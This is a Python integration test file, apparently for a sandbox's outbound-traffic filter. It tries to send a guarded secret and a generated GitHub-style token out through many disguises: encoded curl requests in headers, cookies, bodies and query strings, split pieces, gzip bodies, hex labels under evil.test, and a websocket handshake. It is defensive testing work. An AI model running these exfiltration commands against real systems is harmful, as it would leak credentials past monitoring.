"""D1-D6, B6: sending out by an allowed road what must not leave, in every disguise and at every place."""

from __future__ import annotations

import gzip
import json
import random
import string
from typing import TYPE_CHECKING

import pytest

from bot_bottle.verify.content import FORMS
from tests.attacks import inside
from tests.attacks.conftest import GUARDED
from tests.support.outside import new_marker

if TYPE_CHECKING:
    from tests.support.lab import RunningBottle
    from tests.support.outside import World

pytestmark = [pytest.mark.integration, pytest.mark.attack]

#: A credential by its form, as one would be found in a repository.
FOUND = "ghp_" + "".join(random.Random(6).choices(string.ascii_letters + string.digits, k=36))

#: Where it is written: what curl is told, with the value in the place of ``{}``.
PLACES = {
    "path": "'https://allowed.test/M/{}'",
    "query": "'https://allowed.test/M?q=a&token={}'",
    "header": "-H 'X-Note: {}' 'https://allowed.test/M'",
    "header-name": "-H 'X-{}: 1' 'https://allowed.test/M'",
    "cookie": "-b 'theme=dark; s={}' 'https://allowed.test/M'",
    "json": """--json '{{"messages": [{{"text": "see {}"}}]}}' 'https://allowed.test/M'""",
    "form": "-d 'a=1&b={}' 'https://allowed.test/M'",
    "multipart": "-F 'a=1' -F 'file={};filename=notes.txt' 'https://allowed.test/M'",
    "chunked": "-H 'Transfer-Encoding: chunked' --data-binary 'notes {}' 'https://allowed.test/M'",
    "plain": "-d '{}' 'http://allowed.test/M'",
    "with-auth": "-d '{}' 'https://api.test/M'",
}


def _curl(place: str, value: str, marker: str) -> str:
    arguments = PLACES[place].replace("M", marker, 1).format(value)
    return f"curl -sS -m 20 -o /dev/null -w '%header{{x-bot-bottle-reason}}\\n' {arguments}"


def _fits(place: str, form: str) -> bool:
    """Leave out what cannot be written: no percent sign stands in a header's name, curl would be wrong."""
    return not (place == "header-name" and form == "percent")


@pytest.mark.parametrize(("value", "reason"), [(GUARDED, "own_secret"), (FOUND, "credential_found")])
def test_d1_d3_in_no_form_at_no_place(bottle: RunningBottle, world: World, value: str, reason: str) -> None:
    marker = new_marker("d1")
    # A key by its form is known in what decodes to it; backwards or in base32 that holds for guarded values.
    forms = tuple(FORMS) if reason == "own_secret" else ("raw", "base64", "hex")
    cases = [(place, form) for place in PLACES for form in forms if _fits(place, form)]
    if reason != "own_secret":
        cases = [(place, form) for place, form in cases if place != "header-name"]
    script = "\n".join(_curl(place, FORMS[form](value), marker) for place, form in cases)
    answers = bottle.sh(script, timeout=120).stdout.decode().splitlines()
    assert dict(zip(cases, answers, strict=True)) == dict.fromkeys(cases, reason)
    assert world.reached(marker) == []
    for form in forms:
        assert world.reached(FORMS[form](value)) == []
        assert FORMS[form](value) not in bottle.audit_path.read_text()
    control = bottle.sh("\n".join(_curl(place, "nothing-of-note", marker) for place in PLACES), timeout=60)
    assert control.stdout.split() == []
    assert len(world.reached(marker)) == len(PLACES)


def test_d4_in_pieces_over_requests_and_connections(bottle: RunningBottle, world: World) -> None:
    for size, pattern in (
        (5, "'https://allowed.test/M?seq=N&d={}'"),
        (7, "-H 'X-Id: {}' 'https://allowed.test/M'"),
    ):
        marker = new_marker("d4")
        parts = [GUARDED[at : at + size] for at in range(0, len(GUARDED), size)]
        script = "\n".join(
            "curl -sS -m 20 -o /dev/null -w '%header{x-bot-bottle-reason}\\n' "
            + pattern.replace("M", marker, 1).replace("N", str(index)).format(part)
            for index, part in enumerate(parts)
        )
        answers = bottle.sh(script, timeout=60).stdout.decode().splitlines()
        assert "own_secret" in answers
        arrived = [part for part in parts if any(part in place for place in world.reached(marker))]
        assert arrived != parts
    assert bottle.sh("curl -sS -m 20 https://allowed.test/after-d4").returncode == 0


def test_d5_d6_in_compressed_and_unreadable_bodies(bottle: RunningBottle, world: World) -> None:
    marker = new_marker("d5")
    packed = gzip.compress(json.dumps({"note": GUARDED, "pad": "abc" * 200}).encode())
    send = "curl -sS -m 20 -o /dev/null -w '%header{x-bot-bottle-reason}' --data-binary @-"
    for headers, body, reason in (
        ("-H 'Content-Encoding: gzip'", packed, "own_secret"),
        ("-H 'Content-Type: application/octet-stream'", packed, "own_secret"),
        ("-H 'Content-Encoding: gzip'", b"nothing that gzip wrote", "content_unreadable"),
        ("-H 'Content-Encoding: aes'", b"nobody knows", "content_unreadable"),
        ("-H 'Content-Type: application/json'", bytes(range(256)) * 16, "content_unreadable"),
    ):
        answer = bottle.sh(f"{send} {headers} https://allowed.test/{marker}", stdin=body)
        assert answer.stdout.decode() == reason, headers
    assert world.reached(marker) == []


def test_d2_in_the_labels_of_a_name(bottle: RunningBottle, world: World) -> None:
    """Below a wildcard, where a name would be looked up, and elsewhere, where none ever is."""
    hidden = GUARDED.encode().hex()
    for zone in ("wild.test", "evil.test"):
        answer = bottle.sh(f"curl -sS -m 20 https://{hidden}.{zone}/").json()
        assert answer["reason"] == "own_secret"
    assert world.reached(hidden) == []
    assert hidden not in bottle.audit_path.read_text()


def test_b6_in_the_handshake_of_a_websocket(bottle: RunningBottle, world: World) -> None:
    """Messages are sent to a server that agrees in tests/integration/test_egress_content.py."""
    marker = new_marker("b6")
    handshake = (
        f"GET /{marker} HTTP/1.1\r\nHost: allowed.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: dGhlIHNhbXBsZQ==\r\nSec-WebSocket-Version: 13\r\n"
        f"Sec-WebSocket-Protocol: chat, {GUARDED}\r\n\r\n"
    )
    code = """
sock = tls(connect("allowed.test:443")[0], "allowed.test")
tell(answer=ask(sock, handshake))
"""
    answer = inside.run(bottle, code, handshake=handshake)["answer"]
    assert inside.refusal(answer)["reason"] == "own_secret"
    assert world.reached(marker) == []
